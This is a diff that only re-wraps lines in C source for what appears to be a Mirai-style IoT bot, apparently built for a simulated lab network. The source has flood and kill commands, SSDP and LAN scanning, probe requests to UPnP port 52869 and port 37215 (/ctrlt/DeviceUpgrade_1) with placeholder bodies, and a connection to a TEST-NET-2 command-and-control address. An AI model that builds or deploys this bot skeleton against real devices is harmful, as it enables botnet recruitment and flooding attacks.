@@ -7,8 +7,10 @@
 #include <fcntl.h>
 #include <poll.h>
 
-static const char *const commands[] = {"PING", "GETLOCALIP", "SCANNER", "KILLATTK", "HOLD", "JUNK", "UDP"};
-static const char *const replies[] = {"PONG!", "My IP: %s", "Killed %d.", "None Killed.", "LOLNOGTFO"};
+static const char *const commands[] = {"PING", "GETLOCALIP", "SCANNER", "KILLATTK",
+				       "HOLD", "JUNK",       "UDP"};
+static const char *const replies[] = {"PONG!", "My IP: %s", "Killed %d.", "None Killed.",
+				      "LOLNOGTFO"};
 
 static uint32_t gateway(void)
 {
@@ -32,8 +34,9 @@ static void ssdp(void)
 	a.sin_family = AF_INET;
 	a.sin_port = htons(1900);
 	a.sin_addr.s_addr = inet_addr("239.255.255.250");
-	static const char msg[] = "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\n"
-				  "MX: 1\r\nST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n\r\n";
+	static const char msg[] =
+		"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\n"
+		"MX: 1\r\nST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n\r\n";
 	if (fd >= 0) {
 		sendto(fd, msg, sizeof(msg) - 1, 0, (struct sockaddr *)&a, sizeof(a));
 		close(fd);
@@ -43,12 +46,18 @@ static void ssdp(void)
 static const char *request(int port, char *buf, size_t max, const char *host)
 {
 	if (port == 52869)
-		snprintf(buf, max, "POST /picsdesc.xml HTTP/1.1\r\nHost: %s:52869\r\nContent-Length: 40\r\n"
-				   "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n"
-				   "<NewInternalClient>test</NewInternalClient>", host);
+		snprintf(buf, max,
+			 "POST /picsdesc.xml HTTP/1.1\r\nHost: %s:52869\r\nContent-Length: 40\r\n"
+			 "SOAPAction: "
+			 "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n"
+			 "<NewInternalClient>test</NewInternalClient>",
+			 host);
 	else if (port == 37215)
-		snprintf(buf, max, "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: %s:37215\r\nContent-Length: 36\r\n\r\n"
-				   "<NewStatusURL>test</NewStatusURL>\r\n", host);
+		snprintf(buf, max,
+			 "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: "
+			 "%s:37215\r\nContent-Length: 36\r\n\r\n"
+			 "<NewStatusURL>test</NewStatusURL>\r\n",
+			 host);
 	else
 		snprintf(buf, max, "GET / HTTP/1.0\r\nHost: %s\r\n\r\n", host);
 	return buf;
@@ -132,7 +141,8 @@ static void lan_scan(uint32_t self)
 int main(void)
 {
 	struct in_addr cnc;
-	cnc.s_addr = inet_addr("198.51.100.66"); /* TEST-NET-2: routed nowhere but the fake internet */
+	cnc.s_addr =
+		inet_addr("198.51.100.66"); /* TEST-NET-2: routed nowhere but the fake internet */
 	int fd = bot_connect(cnc, 666);
 	if (fd < 0)
 		return 0;
